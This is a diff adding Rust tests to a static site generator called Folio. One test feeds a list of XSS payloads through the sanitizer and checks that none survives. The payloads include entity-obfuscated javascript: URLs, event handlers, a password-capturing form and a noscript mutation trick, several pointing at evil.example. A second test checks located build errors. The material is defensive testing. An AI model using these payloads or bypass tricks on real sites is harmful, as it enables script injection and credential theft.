@@ -96,3 +96,184 @@ fn colliding_vanishing_and_overlong_documents_are_reported_by_name() {
     assert!(!root.join("public").exists(), "a failed build wrote a site");
     assert_eq!(std::fs::read_to_string(tmp.path().join("outside.txt")).unwrap(), "OUTSIDE\n\nText.\n");
 }
+
+/// Whether an HTML page holds something a browser would run or load from
+/// another place: script, frames, objects, forms, meta refresh, a base or
+/// stylesheet link, an event handler, a style attribute, or a URL with a
+/// scheme other than http(s), mailto and Folio's relative links.
+fn live_markup(html: &str) -> Vec<String> {
+    let tag = regex::Regex::new(r"<[a-zA-Z][^>]*>").unwrap();
+    let bad_tag =
+        regex::Regex::new(r"(?i)^<(script|iframe|frame|object|embed|form|input|meta|base|link|style|svg|math)\b")
+            .unwrap();
+    let handler = regex::Regex::new(r#"(?i)[\s"'/]on[a-z]+\s*="#).unwrap();
+    let style = regex::Regex::new(r#"(?i)\sstyle\s*="#).unwrap();
+    let url = regex::Regex::new(r#"(?i)\s(?:href|src|action|formaction|data)\s*=\s*["']?([^"'\s>]*)"#).unwrap();
+    let mut found = Vec::new();
+    for m in tag.find_iter(html) {
+        let t = common::decode_entities(m.as_str());
+        let bad_url = url.captures_iter(&t).any(|c| {
+            let u: String = c[1].chars().filter(|c| !c.is_ascii_whitespace()).collect::<String>().to_ascii_lowercase();
+            u.split_once(':')
+                .is_some_and(|(scheme, _)| !scheme.contains('/') && !["http", "https", "mailto"].contains(&scheme))
+        });
+        if bad_tag.is_match(&t) || handler.is_match(&t) || style.is_match(&t) || bad_url {
+            found.push(m.as_str().to_string());
+        }
+    }
+    found
+}
+
+#[test]
+fn allowed_html_is_sanitized_and_editors_markup_kept() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("ed");
+    copy_edition(&demo(), &root);
+    let toml = std::fs::read_to_string(root.join("site.toml")).unwrap() + "allow_html = true\n";
+    std::fs::write(root.join("site.toml"), toml).unwrap();
+    // What the pattern checks let through before ammonia, and the classics.
+    let hostile = [
+        r#"<meta http-equiv="refresh" content="0;url=https://evil.example/">"#,
+        r#"<base href="https://evil.example/">"#,
+        r#"<link rel="stylesheet" href="https://evil.example/x.css">"#,
+        r#"<form action="https://evil.example/"><input name="password"></form>"#,
+        r#"<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>"#,
+        r#"<a href="data:application/xhtml+xml;base64,PHNjcmlwdD4=">x</a>"#,
+        r#"<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="d">"#,
+        r#"<img src="https://tracker.example/pixel.png" alt="t">"#,
+        r#"<frameset><frame src="https://evil.example/"></frameset>"#,
+        r#"<span onclick="alert(1)">click</span>"#,
+        r#"<a href="jav&#x61;script:alert(1)">entity</a>"#,
+        r#"<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">zeros</a>"#,
+        r#"<p style="width: expression(alert(1))">expression</p>"#,
+        r#"<svg><animate onbegin="alert(1)" attributeName="x"/></svg>"#,
+        r#"<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>"#,
+        r#"<details open ontoggle="alert(1)">t</details>"#,
+    ];
+    let legit = r#"The 1978<sup>th</sup> H<sub>2</sub>O <span class="smallcaps">Toon</span>, <abbr title="Union of Soviet Socialist Republics">USSR</abbr>, <a href="../pages/introduction.html">the introduction</a>, <a href="https://history.state.gov/">the FRUS</a>."#;
+    // Folio's own controls (the view switch) are not the editor's markup.
+    let base = tmp.path().join("baseline");
+    let o = folio(&["build", "-o", base.to_str().unwrap(), "--no-minify"], &root);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let own: Vec<String> = ["documents/1978MOSCOW08357.html", "pages/introduction.html"]
+        .iter()
+        .flat_map(|p| live_markup(&common::read(&base, p)))
+        .collect();
+    let md_path = root.join("content/documents/1978MOSCOW08357.md");
+    let md = std::fs::read_to_string(&md_path).unwrap();
+    let (front, body) = md.split_at(md[4..].find("+++\n").unwrap() + 8);
+    let added: String = hostile.iter().map(|h| format!("{h}\n\n")).collect();
+    std::fs::write(&md_path, format!("{front}{legit}\n\n{added}{body}")).unwrap();
+    std::fs::write(root.join("content/pages/hostile.md"), format!("+++\ntitle = \"Hostile\"\n+++\n{legit}\n\n{added}"))
+        .unwrap();
+    let out = tmp.path().join("site");
+    let o = folio(&["build", "-o", out.to_str().unwrap(), "--no-minify"], &root);
+    assert!(o.status.success(), "{}", stderr(&o));
+    for page in ["documents/1978MOSCOW08357.html", "pages/hostile.html"] {
+        let page_html = common::read(&out, page);
+        // The edition's own head and scripts are not the editor's markup.
+        let main = page_html.find("<main").unwrap_or_else(|| panic!("{page}: no <main>"));
+        let html = &page_html[main..page_html.find("</main>").unwrap()];
+        let live: Vec<String> = live_markup(html).into_iter().filter(|t| !own.contains(t)).collect();
+        assert!(live.is_empty(), "{page}: live markup survived: {live:#?}");
+        assert!(!html.contains("evil.example\"") && !html.contains("tracker.example"), "{page}");
+        // The editor's ordinary markup stays.
+        for kept in [
+            "<sup>th</sup>",
+            "<sub>2</sub>",
+            "<span class=\"smallcaps\">Toon</span>",
+            "<abbr title=\"Union of Soviet Socialist Republics\">USSR</abbr>",
+            "<a href=\"../pages/introduction.html\">the introduction</a>",
+            "<a href=\"https://history.state.gov/\">the FRUS</a>",
+        ] {
+            assert!(html.contains(kept), "{page}: {kept} lost");
+        }
+    }
+}
+
+/// Issue 21, class 8: every refusal names the file and line and says what
+/// to do; a failed build leaves the previous site as it was.
+#[test]
+fn careless_settings_get_a_located_error_with_a_way_out() {
+    let tmp = tempfile::tempdir().unwrap();
+    let root = tmp.path().join("ed");
+    copy_edition(&demo(), &root);
+    let out = tmp.path().join("site");
+    let build = |root: &Path| folio(&["build", "-o", out.to_str().unwrap()], root);
+    let o = build(&root);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let site = files(&out);
+    let toml = std::fs::read_to_string(root.join("site.toml")).unwrap();
+    let md_path = root.join("content/documents/1978MOSCOW08357.md");
+    let md = std::fs::read_to_string(&md_path).unwrap();
+    let date_line = md.lines().position(|l| l.starts_with("date = ")).unwrap() + 1;
+    let toml_lines = toml.lines().count();
+    // (name, how the edition is spoiled, where the error is, its hint)
+    type Case<'a> = (&'a str, Box<dyn Fn(&Path) + 'a>, String, &'a str);
+    let cases: Vec<Case> = vec![
+        (
+            "unknown highlight theme",
+            Box::new(|r: &Path| {
+                std::fs::write(r.join("site.toml"), format!("{toml}highlight_theme = \"Nope\"\n")).unwrap()
+            }),
+            format!("site.toml:{}:1: error: unknown highlight theme `Nope`", toml_lines + 1),
+            "help: use one of: ",
+        ),
+        (
+            "no mentions per page",
+            Box::new(|r: &Path| std::fs::write(r.join("site.toml"), format!("{toml}mentions_per_page = 0\n")).unwrap()),
+            format!("site.toml:{}: error: build.mentions_per_page must be at least 1", toml_lines + 1),
+            "help: set a number",
+        ),
+        (
+            "integer overflow",
+            Box::new(|r: &Path| {
+                std::fs::write(r.join("site.toml"), format!("{toml}mentions_per_page = 99999999999999999999999\n"))
+                    .unwrap()
+            }),
+            format!("site.toml:{}:", toml_lines + 1),
+            "help: ",
+        ),
+        (
+            "impossible date",
+            Box::new(|r: &Path| {
+                std::fs::write(
+                    r.join("content/documents/1978MOSCOW08357.md"),
+                    md.replace("date = 1978-04-20", "date = 1978-13-45"),
+                )
+                .unwrap()
+            }),
+            format!("content/documents/1978MOSCOW08357.md:{date_line}:"),
+            "help: a date is written date = 1978-04-20",
+        ),
+        (
+            "unknown template variable",
+            Box::new(|r: &Path| {
+                std::fs::create_dir_all(r.join("templates")).unwrap();
+                let page = std::fs::read_to_string(demo().join("templates/page.html")).unwrap();
+                std::fs::write(r.join("templates/page.html"), page.replacen("{{ title }}", "{{ titel }}", 1)).unwrap();
+            }),
+            "templates/page.html:".to_string(),
+            "help: the variables here: ",
+        ),
+    ];
+    for (name, spoil, at, hint) in cases {
+        let case = tmp.path().join(name.replace(' ', "-"));
+        copy_edition(&root, &case);
+        spoil(&case);
+        let o = folio(&["build", "-o", out.to_str().unwrap()], &case);
+        let err = stderr(&o);
+        assert!(!o.status.success(), "{name}: built");
+        assert!(err.contains(&at) && err.contains(hint), "{name}: want {at} … {hint}, got:\n{err}");
+        assert_eq!(files(&out), site, "{name}: the previous site changed");
+    }
+    // A one-letter alias is linked everywhere: a warning at its line.
+    let persons = root.join("content/registers/persons.toml");
+    let text = std::fs::read_to_string(&persons).unwrap();
+    std::fs::write(&persons, text.replace("aliases = [\"TOON\"]", "aliases = [\"TOON\", \"T\"]")).unwrap();
+    let line = text.lines().position(|l| l == "aliases = [\"TOON\"]").unwrap() + 1;
+    let o = build(&root);
+    assert!(o.status.success(), "{}", stderr(&o));
+    let want = format!("content/registers/persons.toml:{line}: warning: alias \"T\" of `toon` is one character long");
+    assert!(stderr(&o).contains(&want), "{}", stderr(&o));
+}
